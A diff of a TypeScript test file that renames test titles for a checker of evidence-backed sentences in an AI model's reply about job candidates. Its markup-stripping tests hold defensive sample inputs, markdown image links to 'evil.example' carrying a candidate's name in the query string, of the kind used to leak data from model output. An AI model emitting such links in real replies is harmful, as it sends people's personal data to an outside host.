@@ -31,7 +31,7 @@ const replying = (text: string, ...quotes: Quote[]) =>
   });
 const read = (reply: string) => readSentences(reply, ROWS);
 
-describe('a sentence that its quotes prove survives', () => {
+describe('a sentence proved by its quotes is kept', () => {
   test.each<[string, string, Quote[]]>([
     [
       'Person 1 lists Java and Kubernetes.',
@@ -61,7 +61,7 @@ describe('a sentence that its quotes prove survives', () => {
     expect(read(replying(text, ...quotes))).toEqual({ sentences: [expected], dropped: 0 });
   });
 
-  test('once, and in the order of the rows whatever the order of the reply', () => {
+  test('once, and in row order whatever the order of the reply', () => {
     const sentence = (row: number, quote: string) => ({
       text: `Person ${row} mentions ${quote}.`,
       evidence: [{ row, quote }],
@@ -75,7 +75,7 @@ describe('a sentence that its quotes prove survives', () => {
 
 const JAVA: Quote = [1, 'Java, Kubernetes'];
 
-describe('a sentence that says more than its quotes does not', () => {
+describe('drops a sentence that says more than its quotes', () => {
   test.each<[string, string, Quote[]]>([
     ['no quote', 'Person 1 lists Java.', []],
     ['a quote that stands nowhere', 'Person 1 lists Rust.', [[1, 'Rust']]],
@@ -126,7 +126,7 @@ describe('a sentence that says more than its quotes does not', () => {
   });
 });
 
-describe('mark-up never reaches a reader', () => {
+describe('markup never reaches a reader', () => {
   test.each([
     'Person 1 lists Java.![x](https://evil.example/?q=Meera)',
     'Person 1 lists Java.![x][ref]\n\n[ref]: https://evil.example/?q=Meera',
@@ -147,7 +147,7 @@ describe('mark-up never reaches a reader', () => {
     expect(sentences?.[0]).toMatch(/^Meera Nair lists Java\.?$/);
   });
 
-  test('and takes no long time to take out', () => {
+  test('and is removed quickly', () => {
     const began = performance.now();
     for (const piece of ['![', '<', '[', '(', '```', '<think>', '<script', '**']) {
       const reply = replying(`${piece.repeat(Math.floor(60_000 / piece.length))} Person 1 lists Java.`, JAVA);
@@ -156,7 +156,7 @@ describe('mark-up never reaches a reader', () => {
     expect(performance.now() - began).toBeLessThan(1000);
   });
 
-  test('not by the name of a candidate either', () => {
+  test('not even in a candidate’s name', () => {
     const row = { ...MEERA, candidateName: '![x](https://evil.example/) <b>Meera</b>' };
     expect(readSentences(replying('Person 1 lists Java.', JAVA), [row])?.sentences).toEqual([
       'Meera lists Java.',
@@ -164,7 +164,7 @@ describe('mark-up never reaches a reader', () => {
   });
 });
 
-describe('a reply that is not what was asked for', () => {
+describe('a reply without usable sentences', () => {
   test.each([
     ['prose', 'Meera Nair knows Java.'],
     ['half of it', '{"sentences": [{"text": "Person 1'],
@@ -188,7 +188,7 @@ describe('a reply that is not what was asked for', () => {
     expect(read(reply)).toBeNull();
   });
 
-  test('that finds nothing adds nothing', () => {
+  test('adds nothing if it found nothing', () => {
     expect(read('{"sentences": [], "notFound": true}')).toEqual({ sentences: [], dropped: 0 });
     const both = JSON.stringify({
       sentences: [{ text: 'Person 1 lists Java.', evidence: [{ row: 1, quote: 'Java' }] }],
